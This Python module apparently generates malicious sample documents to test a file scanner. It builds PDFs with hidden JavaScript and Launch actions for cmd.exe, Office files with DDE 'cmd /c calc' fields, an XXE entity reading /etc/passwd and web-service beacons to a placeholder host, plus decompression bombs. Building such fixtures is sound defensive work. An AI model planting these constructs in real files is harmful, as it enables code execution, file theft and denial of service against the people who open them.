"""Files that run, open, fetch or carry something, hide it, or break whoever reads them."""

import io
import struct
import tarfile
import zipfile
import zlib

import pikepdf
import pypdf
from PIL import Image
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.data.files.good_files import WORDS, reportlab, sheet, slides, word, writer_
from tests.data.files.make import makes
from tests.data.files.parts import before, paper, picture, with_parts
from tests.data.files.recordings import video

FAR = "https://tracker.example.org/seen"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


# PDF -----------------------------------------------------------------------------------------


@makes(
    "bad/active/hex-names.pdf",
    "bad/active/script-on-opening.pdf",
    "bad/active/hidden-from-the-table.pdf",
    "bad/active/comment-in-the-mark.pdf",
    "bad/active/kind-by-pointer.pdf",
    "bad/active/rendition.pdf",
    "bad/active/film.pdf",
    "bad/active/rich-media.pdf",
    "bad/active/three-dimensions.pdf",
    "bad/active/quits-the-program.pdf",
)
def running(which: str) -> bytes:
    script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    annotation = "/Annots [<< /Type /Annot /Rect [0 0 9 9] %s >>]"
    if which == "comment-in-the-mark":
        return _commented(script)
    return {
        "hex-names": lambda: paper(
            "<< /#53 /Java#53cript /J#53 (app.alert\\(1\\)) >>", catalog="/Open#41ction 4 0 R"
        ),
        "script-on-opening": lambda: paper(script, catalog="/OpenAction 4 0 R"),
        "hidden-from-the-table": lambda: paper(script, catalog="/OpenAction 4 0 R", hide=True),
        "kind-by-pointer": lambda: paper(
            "<< /S 5 0 R /JS (app.alert\\(1\\)) >>", "/JavaScript", catalog="/OpenAction 4 0 R"
        ),
        "rendition": lambda: paper(
            page=annotation % "/Subtype /Widget /A << /S /Rendition /OP 0 >>"
        ),
        "film": lambda: paper(page=annotation % "/Subtype /Movie /Movie << /F (a.mpg) >>"),
        "rich-media": lambda: paper(page=annotation % "/Subtype /RichMedia"),
        "three-dimensions": lambda: paper(page=annotation % "/Subtype /3D"),
        "quits-the-program": lambda: paper(
            page=annotation % "/Subtype /Link /A << /S /Named /N /Quit >>"
        ),
    }[which]()


def _commented(script: str) -> bytes:
    """The mark of the object is cut by a comment; only the table leads there."""
    made = paper(script, catalog="/OpenAction 4 0 R")
    long = b"%" + b"x" * 300 + b"\n"
    start = made.index(b"4 0 obj")
    cut = made[: start + 2] + long + made[start + 2 :]
    table = made.index(b"xref\n")
    return cut.replace(b"startxref\n%d" % table, b"startxref\n%d" % (table + len(long)))


@makes("bad/active/script-in-object-stream.pdf", "bad/active/script-in-a-field.pdf")
def packed(which: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(reportlab("reportlab-form"))) as pdf:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        if which == "script-in-a-field":
            field = pdf.Root.AcroForm.Fields[0]
            field.AA = pikepdf.Dictionary(K=pdf.make_indirect(script))
        else:
            pdf.Root.OpenAction = pdf.make_indirect(script)
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


@makes(
    "bad/opens/address-on-opening.pdf",
    "bad/opens/address-on-closing.pdf",
    "bad/opens/address-after-a-page.pdf",
    "bad/opens/address-on-a-field.pdf",
    "bad/opens/share.pdf",
    "bad/opens/file-link.pdf",
    "bad/opens/program.pdf",
    "bad/opens/sends-a-form.pdf",
    "bad/opens/imports.pdf",
    "bad/opens/prints-on-opening.pdf",
)
def opening(which: str) -> bytes:
    address = f"<< /S /URI /URI ({FAR}) >>"
    link = "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>]"
    return {
        "address-on-opening": lambda: paper(address, catalog="/OpenAction 4 0 R"),
        "address-on-closing": lambda: paper(address, "<< /C 4 0 R >>", page="/AA 5 0 R"),
        "address-after-a-page": lambda: paper(
            address, catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [4 0 R] >>"
        ),
        "address-on-a-field": lambda: paper(
            page=f"/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /AA << /E {address} >> >>]"
        ),
        "share": lambda: paper(
            page=link
            % "<< /S /GoToR /F (\\\\\\\\host.example.org\\\\share\\\\a.pdf) /D [0 /Fit] >>"
        ),
        "file-link": lambda: paper(page=link % "<< /S /URI /URI (file://host.example.org/a) >>"),
        "program": lambda: paper(page=link % "<< /S /Launch /F (cmd.exe) >>"),
        "sends-a-form": lambda: paper(page=link % f"<< /S /SubmitForm /F ({FAR}) >>"),
        "imports": lambda: paper(page=link % "<< /S /ImportData /F (a.fdf) >>"),
        "prints-on-opening": lambda: paper(catalog="/OpenAction << /S /Named /N /Print >>"),
    }[which]()


@makes("bad/remote/contents-elsewhere.pdf", "bad/form/xfa.pdf", "bad/bomb/object-stream.pdf")
def odd(which: str) -> bytes:
    if which == "contents-elsewhere":
        return paper(f"<< /Length 0 /F << /FS /URL /F ({FAR}) >> >>\nstream\n\nendstream")
    if which == "xfa":
        return paper("<< /XFA [(template) 5 0 R] /Fields [] >>", catalog="/AcroForm 4 0 R")
    plain = zlib.compress(b"5 0 " + bytes(90_000_000), 9)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(plain)
    return paper(head + b"\nstream\n" + plain + b"\nendstream")


@makes("bad/carries/file.pdf", "bad/carries/paper-clip.pdf")
def carrying(which: str) -> bytes:
    writer = pypdf.PdfWriter()
    writer.append(io.BytesIO(reportlab("reportlab-letter")))
    if which == "file":
        writer.add_attachment("list.txt", WORDS.encode())
    else:
        note = DictionaryObject(
            {
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): pypdf.generic.RectangleObject((0, 0, 9, 9)),
                NameObject("/Contents"): TextStringObject("clip"),
            }
        )
        writer.pages[0][NameObject("/Annots")] = pypdf.generic.ArrayObject([note])
    return _written(writer)


@makes("bad/encrypted/password.pdf", "bad/encrypted/no-printing.pdf")
def locked(which: str) -> bytes:
    writer = pypdf.PdfWriter()
    writer.append(io.BytesIO(reportlab("reportlab-letter")))
    user = "invented" if which == "password" else ""
    writer.encrypt(user, "owner", algorithm="AES-256")
    return _written(writer)


def _written(writer: pypdf.PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# Office --------------------------------------------------------------------------------------


def _pointing(kind: str, target: str, outside: bool = True) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="rIdX" Type="{REL}{kind}" Target="{target}"{mode}/>'


def _letter(**parts: object) -> bytes:
    return with_parts(word("letter"), dict(parts))


@makes(
    "bad/active/macros.docx",
    "bad/active/macros-of-another-name.docx",
    "bad/active/active-x.docx",
    "bad/active/macro-button.docx",
    "bad/active/definitions.docx",
    "bad/active/program.docx",
    "bad/carries/object.docx",
    "bad/carries/page-of-another-kind.docx",
    "bad/carries/archive.docx",
    "bad/opens/share.docx",
    "bad/remote/template.docx",
    "bad/remote/picture.docx",
    "bad/remote/picture-field.docx",
    "bad/remote/data-exchange.docx",
    "bad/encrypted/parts.docx",
    "bad/bomb/zip.docx",
    "bad/bomb/within-itself.docx",
    "bad/broken/two-of-one-name.docx",
    "bad/broken/cut.docx",
)
def words(which: str) -> bytes:
    body, rels = "word/document.xml", "word/_rels/document.xml.rels"
    types, end = "[Content_Types].xml", "</Relationships>"
    makers = {
        "macros": lambda: _letter(**{"word/vbaProject.bin": OLE}),
        "macros-of-another-name": lambda: _letter(
            **{"word/a.bin": b"x", types: before("</Types>", _typed("/word/a.bin", "vbaProject"))}
        ),
        "active-x": lambda: _letter(**{"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='x'/>"}),
        "macro-button": lambda: _letter(
            **{body: before("<w:sectPr", _cut_field("MACRO|BUTTON Run"))}
        ),
        "definitions": lambda: _letter(
            **{
                "customXml/item9.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
            }
        ),
        "program": lambda: _letter(**{"word/media/image1.png": b"MZ" + bytes(100)}),
        "object": lambda: _letter(**{"word/embeddings/oleObject1.bin": OLE}),
        "page-of-another-kind": lambda: _letter(
            **{
                rels: before(end, _pointing("aFChunk", "a.html", outside=False)),
                "word/a.html": b"<p>a",
            }
        ),
        "archive": lambda: _letter(**{"word/embeddings/a.xlsx": archive()}),
        "share": lambda: _letter(**{rels: before(end, _pointing("hyperlink", "file://host/a"))}),
        "template": lambda: _letter(
            **{
                "word/_rels/settings.xml.rels": (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    + _pointing("attachedTemplate", FAR)
                    + end
                ).encode()
            }
        ),
        "picture": lambda: _letter(**{rels: before(end, _pointing("image", FAR))}),
        "picture-field": lambda: _letter(
            **{body: before("<w:sectPr", _cut_field(f'INCLUDE|PICTURE "{FAR}" \\d'))}
        ),
        "data-exchange": lambda: _letter(
            **{body: before("<w:sectPr", _cut_field('DDE|AUTO "cmd" "/c calc"'))}
        ),
        "parts": _locked_parts,
        "zip": lambda: _letter(**{"word/media/image1.bin": bytes(60 * 1024 * 1024)}),
        "within-itself": _nested,
        "two-of-one-name": _twice,
        "cut": lambda: word("letter")[:4000],
    }
    return makers[which]()


def _typed(part: str, kind: str) -> str:
    return f'<Override PartName="{part}" ContentType="application/vnd.ms-office.{kind}"/>'


def _cut_field(instruction: str) -> str:
    """A field whose instruction is cut into runs, as whoever hides it does."""
    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    quoted = instruction.replace('"', "&quot;")
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in quoted.split("|"))
    return f"<w:p>{mark % 'begin'}{runs}{mark % 'separate'}{mark % 'end'}</w:p>"


def _locked_parts() -> bytes:
    """The mark of encryption on every part."""
    made = bytearray(word("letter"))
    for head, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(head)
        while place >= 0:
            made[place + offset] |= 1
            place = made.find(head, place + 4)
    return bytes(made)


def _nested() -> bytes:
    made = word("letter")
    for _ in range(4):
        made = with_parts(word("letter"), {"word/embeddings/a.docx": made})
    return made


def _twice() -> bytes:
    out = io.BytesIO(word("letter"))
    with zipfile.ZipFile(out, "a") as more:
        more.writestr("WORD/document.xml", "<other/>")
    return out.getvalue()


@makes(
    "bad/remote/other-workbook.xlsx",
    "bad/remote/web-service.xlsx",
    "bad/remote/program.xlsx",
    "bad/remote/data.xlsx",
    "bad/active/old-macros.xlsx",
    "bad/active/macros-of-a-chart.docx",
)
def figures(which: str) -> bytes:
    page, types = "xl/worksheets/sheet1.xml", "[Content_Types].xml"
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    over = '<Override PartName="/xl/{0}.xml" ContentType="' + main + '{1}+xml"/>'
    cell = '<row r="9"><c r="A9"><f>%s</f></c></row>'
    if which == "macros-of-a-chart":
        book = with_parts(sheet("plain"), {"xl/vbaProject.bin": OLE})
        return with_parts(word("chart"), {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": book})
    changes = {
        "other-workbook": {
            types: before("</Types>", over.format("externalLinks/externalLink1", "externalLink")),
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
        },
        "web-service": {page: before("</sheetData>", cell % f'_xlfn.WEBSERVICE("{FAR}")')},
        "program": {page: before("</sheetData>", cell % "cmd|'/c calc'!A1")},
        "data": {
            types: before("</Types>", over.format("connections", "connections")),
            "xl/connections.xml": b"<connections/>",
        },
        "old-macros": {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='x'/>"},
    }
    return with_parts(sheet("plain"), changes[which])


@makes("bad/opens/program.pptx")
def show() -> bytes:
    click = '<a:hlinkClick xmlns:a="x" action="ppaction://program"/>'
    return with_parts(slides("plain"), {"ppt/slides/slide1.xml": before("</p:sld>", click)})


@makes(
    "bad/active/event.odt",
    "bad/active/basic.odt",
    "bad/remote/picture.odt",
    "bad/remote/section.odt",
    "bad/encrypted/parts.odt",
)
def open_document(which: str) -> bytes:
    link = ' xmlns:l="http://www.w3.org/1999/xlink" l:href="%s"/>'
    event = '<s:event-listener xmlns:s="s"' + link % "vnd.sun.star.script:a?language=Basic"
    content, end = "content.xml", "</office:text>"
    changes = {
        "event": {content: before(end, event)},
        "basic": {"Basic/Standard/Module1.xml": b"<module/>"},
        "picture": {content: before(end, '<d:image xmlns:d="d"' + link % FAR)},
        "section": {content: before(end, '<t:section-source xmlns:t="t"' + link % "../a.odt")},
        "parts": {
            "META-INF/manifest.xml": before(
                "</manifest:manifest>", '<manifest:encryption-data manifest:checksum="a"/>'
            )
        },
    }
    return with_parts(writer_("letter"), changes[which])


# The rest ------------------------------------------------------------------------------------


@makes("bad/active/page.html", "bad/active/drawing.svg", "bad/active/script.sh")
def page(which: str) -> bytes:
    return {
        "page": b"<!DOCTYPE html><script>alert(1)</script>",
        "drawing": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "script": b"#!/bin/sh\necho invented\n",
    }[which]


@makes("bad/archive/one.zip")
def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as new:
        new.writestr("a.txt", WORDS)
    return out.getvalue()


@makes("bad/archive/one.tar.gz")
def packed_archive() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as new:
        new.addfile(tarfile.TarInfo("a.txt"))
    return out.getvalue()


@makes("bad/kind/program.exe", "bad/old_office/letter.doc")
def other(which: str) -> bytes:
    return OLE if which == "letter" else b"MZ" + bytes(300)


@makes("bad/broken/cut.jpg", "bad/too_big/wide.png")
def cut(which: str) -> bytes:
    if which == "wide":
        out = io.BytesIO()
        Image.new("1", (9000, 9000)).save(out, "PNG")
        return out.getvalue()
    return picture()[:900]


@makes("bad/remote/film-elsewhere.mp4")
def far_film() -> bytes:
    """Sound and pictures lie at an address: the flag that says "here" is taken away."""
    made = video()
    place = made.index(b"dref")
    entry = made.index(b"url ", place)
    return made[: entry + 4] + struct.pack(">I", 0) + made[entry + 8 :]


@makes("bad/broken/cut-film.mp4")
def cut_film() -> bytes:
    return video()[:-200]
